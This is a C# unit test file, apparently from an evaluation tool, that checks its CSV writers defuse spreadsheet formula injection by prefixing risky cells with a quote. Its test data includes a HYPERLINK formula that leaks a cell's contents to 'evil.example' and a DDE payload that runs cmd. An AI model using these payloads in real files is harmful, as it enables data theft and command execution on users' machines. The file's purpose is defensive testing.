using Probe.Evaluation.Io;
using Probe.Evaluation.Prompts;
using Probe.Evaluation.Results;
using Probe.Evaluation.Statistics;

namespace Probe.Tests;

/// <summary>CSV formula injection: text cells a spreadsheet would run are written with a "'" and read back exactly.</summary>
public class CsvTextTests
{
    static readonly string[] Formulas =
    [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tTab first", "\rCR first",
        "'=already quoted", "'plain quote", "''two quotes", "'", "=", "-",
    ];

    [TestCase("=1+1", "'=1+1")]
    [TestCase("+1", "'+1")]
    [TestCase("-1", "'-1")]
    [TestCase("@x", "'@x")]
    [TestCase("\tx", "'\tx")]
    [TestCase("\rx", "'\rx")]
    [TestCase("'=x", "''=x")]
    [TestCase("'x", "''x")]
    [TestCase("a=b", "a=b")]
    [TestCase("", "")]
    public void Escape_prefixes_a_quote_to_formulas_and_to_quotes_and_unescape_takes_it_off(string text, string cell)
    {
        Assert.That(CsvText.Escape(text), Is.EqualTo(cell));
        Assert.That(CsvText.Unescape(cell), Is.EqualTo(text));
    }

    [Test]
    public void A_hand_written_leading_quote_not_followed_by_a_formula_character_is_kept()
    {
        Assert.That(CsvText.Unescape("'tis the season"), Is.EqualTo("'tis the season"));
    }

    [Test]
    public void Samples_csv_writes_no_text_cell_a_spreadsheet_would_run_and_reads_every_prompt_back()
    {
        using var dir = new TempDir();
        var path = dir.File("samples.csv");
        var samples = Formulas.Select((p, i) => new SampleRecord
        {
            RunId = "=run", Model = "+model", Lora = "-lora", Category = "@cat", PromptId = $"=p{i}", Prompt = p, Seed = 1000 + i,
            Image = $"images/p{i}.png", Unsafe = false,
            Judges = [new JudgeResult("=judge", 0.25, false, new Dictionary<string, double> { ["-x"] = -0.5 })],
        }).ToList();
        SamplesCsv.Write(path, samples);

        var rows = ReadRaw(path);
        Assert.That(rows[0], Has.None.Match("^[=+\\-@\t\r]"), "header");
        string[] text = ["run_id", "model", "lora", "category", "prompt_id", "prompt", "image"];
        foreach (var row in rows.Skip(1))
            for (var c = 0; c < row.Count; c++)
                if (text.Contains(rows[0][c]))
                    Assert.That(row[c], Does.Not.Match("^[=+\\-@\t\r]"), $"column {rows[0][c]}");
        // Numbers stay numbers: the negative label score is written as -0.5, not '-0.5.
        Assert.That(rows[1][^1], Is.EqualTo("-0.5"));
        Assert.That(SamplesCsv.Read(path), Is.EqualTo(samples).Using<SampleRecord>(Same));
    }

    [Test]
    public void Summary_and_prompt_csvs_round_trip_formula_text()
    {
        using var dir = new TempDir();
        var summary = dir.File("summary.csv");
        SummaryCsv.Write(summary, [new CategorySummary("=cmd|' /C calc'!A0", new Proportion(1, 2), 0.1, 0.9)]);
        Assert.That(File.ReadAllText(summary), Does.Contain("'=cmd"));
        Assert.That(SummaryCsv.Read(summary)[0].Category, Is.EqualTo("=cmd|' /C calc'!A0"));

        var prompts = dir.File("prompts.csv");
        var items = Formulas.Where(f => f.Trim().Length > 1).Select((p, i) => new PromptItem
        {
            Id = $"=id{i}", Category = "hate", Categories = ["hate"], Prompt = p, SourceFile = "x", SourceLine = i,
        }).ToList();
        PromptCsv.Write(prompts, items);
        Assert.That(ReadRaw(prompts).Skip(1).SelectMany(r => r), Has.None.Match("^[=+\\-@\t\r]"));
        var read = PromptLoader.Load([prompts]).Items;
        // The loader trims prompts, as it always did; the escape itself never changes the text.
        Assert.That(read.Select(p => p.Prompt), Is.EqualTo(items.Select(p => p.Prompt.Trim())));
        Assert.That(read.Select(p => p.Id), Is.EqualTo(items.Select(p => p.Id)));
    }

    static bool Same(SampleRecord a, SampleRecord b) =>
        a with { Judges = [] } == b with { Judges = [] } && a.Judges.Count == b.Judges.Count &&
        a.Judges.Zip(b.Judges).All(p => p.First.Judge == p.Second.Judge && p.First.UnsafeScore == p.Second.UnsafeScore &&
                                          p.First.Scores.OrderBy(k => k.Key).SequenceEqual(p.Second.Scores.OrderBy(k => k.Key)));

    static List<List<string>> ReadRaw(string path)
    {
        using var csv = CsvFiles.Open(path);
        var rows = new List<List<string>> { csv.Header.ToList() };
        // The header as written: CsvInput unescapes it, so read the first line's fields again raw.
        rows[0] = File.ReadAllLines(path)[0].Split(',').ToList();
        while (csv.Read()) rows.Add(Enumerable.Range(0, csv.FieldCount).Select(i => csv[i]).ToList());
        return rows;
    }
}
